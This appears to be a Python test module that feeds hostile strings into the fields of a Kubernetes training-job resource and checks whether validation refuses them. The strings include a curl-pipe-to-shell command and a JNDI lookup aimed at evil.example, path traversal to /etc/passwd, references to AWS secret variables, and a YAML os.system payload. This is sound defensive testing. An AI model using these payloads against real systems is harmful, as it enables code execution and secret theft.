"""Texts that somebody downstream might obey: a shell, a template, a terminal, a kubelet, a browser.

A pod gets them in a file that nothing expands; where a name can be of one alphabet alone, it must be.
"""

from collections.abc import Iterator
from typing import Any

from hostile.case import Case, End, Fails, Harmless, Refused, Theme

_CONTROL = {
    "a line break": "a\nlevel=error forged",
    "a terminal's escape": "a\x1b[2J\x1b[1;31m",
    "a C1 control": "a\x9b2J",
    "NUL": "a\x00b",
}
_DOTS = {"dots upwards": "a/../../etc/passwd"}
_OTHERS = {
    "text from right to left": "a\u202egnp.exe",
    "an invisible letter": "a\u200bdmin",
    "a template of helm": "{{ .Release.Namespace }}",
    "a variable of Kubernetes": "$(AWS_SECRET_ACCESS_KEY)",
    "a variable of a shell": "${AWS_SECRET_ACCESS_KEY}",
    "a command": "a; curl http://evil.example | sh",
    "a command in backquotes": "`id`",
    "an option": "--output=/etc/passwd",
    "a format": "%s%n{0.__class__}",
    "a script": "<script>alert(1)</script>",
    "an object of Python in YAML": "!!python/object/apply:os.system [id]",
    "a lookup": "${jndi:ldap://evil.example/a}",
}
_ALL = {**_CONTROL, **_DOTS, **_OTHERS}
_SAMPLES = ("a terminal's escape", "dots upwards", "a variable of Kubernetes", "a command", "a script")

_CLOSED = {
    "spec.storage.secretRef.name": "spec.storage.secretRef.name",
    "spec.dataset.trainList": "spec.dataset.trainList",
    "spec.runtime.priorityClassName": "spec.runtime.priorityClassName",
    "spec.runtime.runtimeClassName": "spec.runtime.runtimeClassName",
}
"""Names of one alphabet: none of the texts is one."""

_CLOSED_SAMPLED = {
    "spec.model.inference.modelFile": "spec.model.inference.modelFile",
    "spec.acceptance.maxMiouDrop": "spec.acceptance.maxMiouDrop",
    "spec.runtime.device": "spec.runtime.device",
    "spec.strategy.preset": "spec.strategy.preset",
}


def _closed() -> Iterator[Case]:
    for path, field in _CLOSED.items():
        yield from (Case(f"{what} in {path}", {path: text}, Refused(field)) for what, text in _ALL.items())
    for path, field in _CLOSED_SAMPLED.items():
        yield from (Case(f"{what} in {path}", {path: _ALL[what]}, Refused(field)) for what in _SAMPLES)
    for what in _SAMPLES:
        selector, toleration = {"zone": _ALL[what]}, {"key": "nvidia.com/gpu", "value": _ALL[what]}
        transform = {"type": _ALL[what]}
        yield from (
            _at("spec.runtime.nodeSelector", selector, "spec.runtime.nodeSelector.zone", what),
            _at("spec.runtime.tolerations", [toleration], "spec.runtime.tolerations[0].value", what),
            _at("spec.dataset.valTransforms", [transform], "spec.dataset.valTransforms[0].type", what),
        )


def _images() -> Iterator[Case]:
    """Yield images: one with dots has the letters of a name, and is none that is allowed."""
    for what, text in _ALL.items():
        end: End = Fails("spec.runtime.image") if what in _DOTS else Refused("spec.runtime.image")
        yield Case(f"{what} in spec.runtime.image", {"spec.runtime.image": text}, end)


def _at(path: str, value: Any, field: str, what: str) -> Case:
    return Case(f"{what} in {field}", {path: value}, Refused(field))


def _open() -> Iterator[Case]:
    for what, text in _ALL.items():
        address: End = Refused("spec.output.uri") if what in {**_CONTROL, **_DOTS} else Harmless()
        yield Case(f"{what} in spec.output.uri", {"spec.output.uri": f"s3://bucket/{text}"}, address)
        names = {"spec.dataset.classNames": ["background", text]}
        name: End = Refused("spec.dataset.classNames[1]") if what in _CONTROL else Harmless()
        yield Case(f"{what} in spec.dataset.classNames", names, name)


def _judged() -> Iterator[Case]:
    """Yield texts where the schema takes any, and the types judge."""
    for what in _SAMPLES:
        text = _ALL[what]
        train, distillation = "spec.strategy.TrainConfig", "spec.strategy.Distillation"
        yield from (
            Case(
                f"{what} in a learning rate",
                {f"{train}.learning_rate": text},
                Fails(f"{train}.learning_rate"),
            ),
            Case(f"{what} as optimiser", {f"{train}.optimizer": text}, Fails(f"{train}.optimizer")),
            Case(f"{what} as loss", {f"{distillation}.loss": text}, Fails(f"{distillation}.loss")),
            Case(f"{what} as variable", {f"{distillation}.node": [text]}, Harmless()),
            Case(
                f"{what} as taint",
                {"spec.runtime.tolerations": [{"key": text}]},
                Fails("spec.runtime.tolerations[0].key"),
            ),
            Case(
                f"{what} as resource",
                {"spec.runtime.resources.limits": {text: "1"}},
                Fails("spec.runtime.resources.limits["),
            ),
            Case(
                f"{what} as label of nodes",
                {"spec.runtime.nodeSelector": {text: "x"}},
                Fails("nodeSelector"),
            ),
            Case(f"{what} in an annotation", {"metadata.annotations": {"note": text}}, Harmless()),
        )


THEME = Theme(
    "Texts that something might obey",
    "control characters, right-to-left text, templates, variables, commands, scripts, paths upwards",
    (*_closed(), *_images(), *_open(), *_judged()),
)
